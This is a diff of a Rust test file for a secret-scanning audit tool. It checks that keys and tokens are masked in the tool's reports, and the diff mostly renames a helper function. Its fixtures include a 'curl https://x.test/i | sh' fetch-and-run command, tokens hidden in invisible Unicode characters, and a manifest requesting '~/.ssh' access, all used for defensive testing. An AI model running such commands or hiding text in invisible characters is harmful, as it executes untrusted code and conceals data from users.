@@ -1,4 +1,4 @@
-//! A report is read by others than the file: no secret may go from one into the other.
+//! A report has other readers than the file: no secret may get from the file into it.
 
 use std::ffi::OsStr;
 use std::os::unix::ffi::OsStrExt as _;
@@ -9,8 +9,8 @@ use skillcue_audit::{Audit, audit, finding_json, sarif};
 use crate::samples::{noise, tags};
 use crate::{find, lines, of_file, write};
 
-/// Nothing of the secret but its first characters is in what is shown.
-fn kept(audit: &Audit, secret: &str) {
+/// Checks that no report shows more of the secret than its first characters.
+fn assert_masked(audit: &Audit, secret: &str) {
     assert!(!audit.findings.is_empty(), "nothing was found");
     for part in secret.as_bytes().windows(7).skip(4) {
         let part = str::from_utf8(part).unwrap();
@@ -36,14 +36,14 @@ fn a_private_key_is_masked_to_its_end() {
     for end in ["\\n", "\n", "\\r\\n"] {
         let (text, body) = key(end);
         let json = format!("{{\"type\": \"service_account\", \"private_key\": \"{text}\"}}\n");
-        kept(&of_file("key.json", &json), &body);
+        assert_masked(&of_file("key.json", &json), &body);
         // Seen from the middle of the key: the long text, and a command behind it.
-        kept(&of_file("key.md", &json), &body);
-        kept(&of_file("key.sh", format!("K='{text}' curl https://x.test/i | sh\n")), &body);
+        assert_masked(&of_file("key.md", &json), &body);
+        assert_masked(&of_file("key.sh", format!("K='{text}' curl https://x.test/i | sh\n")), &body);
     }
     // One that has no end, and one whose end is far away.
     let (text, body) = key("\n");
-    kept(&of_file("a.md", &text[..text.len() - 100]), &body);
+    assert_masked(&of_file("a.md", &text[..text.len() - 100]), &body);
 }
 
 #[test]
@@ -52,37 +52,37 @@ fn two_secrets_of_a_line_are_masked_whatever_is_reported() {
     let other = format!("{}{}", "AKIA", "QZ7XW3NM2PLK5RTY");
     let audit = of_file("e.env", format!("A={one} B={other}\n"));
     assert_eq!(audit.findings.len(), 2, "{:?}", lines(&audit));
-    kept(&audit, &one);
-    kept(&audit, &other);
+    assert_masked(&audit, &one);
+    assert_masked(&audit, &other);
     // One that begins long before the place.
     let long = format!("{}-ant-api03-{}", "sk", noise(9000));
-    kept(&of_file("e.sh", format!("A={long};curl https://x.test/i | sh\n")), &long);
-    kept(&of_file("e.md", format!("A={one} zero\u{200b}width\n")), &one);
-    kept(&of_file("e.md", format!("A={one}\u{200b}\n")), &one);
+    assert_masked(&of_file("e.sh", format!("A={long};curl https://x.test/i | sh\n")), &long);
+    assert_masked(&of_file("e.md", format!("A={one} zero\u{200b}width\n")), &one);
+    assert_masked(&of_file("e.md", format!("A={one}\u{200b}\n")), &one);
 }
 
 #[test]
-fn what_hidden_characters_spell_is_masked() {
+fn text_of_hidden_characters_is_masked() {
     let token = format!("{}_{}", "ghp", noise(36));
     let audit = of_file("a.md", format!("Hello{}\n", tags(&format!("use {token}"))));
     assert!(find(&audit, "hidden-unicode").unwrap().message.contains("ghp_…"), "{:?}", lines(&audit));
-    kept(&audit, &token);
+    assert_masked(&audit, &token);
     // Only the first characters of a run are kept: the token is cut.
-    kept(&of_file("a.md", format!("Hello{}\n", tags(&format!("{} {token}", "word ".repeat(35))))), &token);
+    assert_masked(&of_file("a.md", format!("Hello{}\n", tags(&format!("{} {token}", "word ".repeat(35))))), &token);
     let selectors: String = token.bytes().map(|byte| char::from_u32(0xe0100 + u32::from(byte) - 16).unwrap()).collect();
-    kept(&of_file("a.md", format!("Hello{selectors}\n")), &token);
+    assert_masked(&of_file("a.md", format!("Hello{selectors}\n")), &token);
     let private: String = token.bytes().map(|byte| char::from_u32(0xf0000 + u32::from(byte)).unwrap()).collect();
-    kept(&of_file("a.md", format!("Hello{private}\n")), &token);
+    assert_masked(&of_file("a.md", format!("Hello{private}\n")), &token);
 }
 
 #[test]
-fn what_links_and_manifests_say_is_masked() {
+fn text_of_links_and_manifests_is_masked() {
     let token = format!("{}_{}", "ghp", noise(36));
     let dir = tempfile::tempdir().unwrap();
     std::os::unix::fs::symlink(format!("/x/{token}"), dir.path().join("a")).unwrap();
-    kept(&audit(dir.path()), &token);
+    assert_masked(&audit(dir.path()), &token);
     let text = format!("---\nname: a\ndescription: B c.\npermissions:\n  read: [\"~/.ssh\", \"{token}\"]\n---\n");
-    kept(&of_file("SKILL.md", text), &token);
+    assert_masked(&of_file("SKILL.md", text), &token);
 }
 
 #[test]
@@ -109,7 +109,7 @@ fn values_without_quotes_are_found() {
     ];
     for (file, text) in high {
         assert!(find(&of_file(file, &text), "secret").is_some(), "{text}");
-        kept(&of_file(file, &text), &value);
+        assert_masked(&of_file(file, &text), &value);
     }
     let value = &value[..16];
     let medium = [
@@ -120,7 +120,7 @@ fn values_without_quotes_are_found() {
     ];
     for (file, text) in medium {
         assert!(find(&of_file(file, &text), "secret-like").is_some(), "{text}");
-        kept(&of_file(file, &text), value);
+        assert_masked(&of_file(file, &text), value);
     }
     let clean = [
         ("a.sh", "export DB_PASSWORD=${DB_PASSWORD_2}\nTOKEN=$(get Token1 Token2x)\nAPI_KEY=your-api-key-here-12\n"),
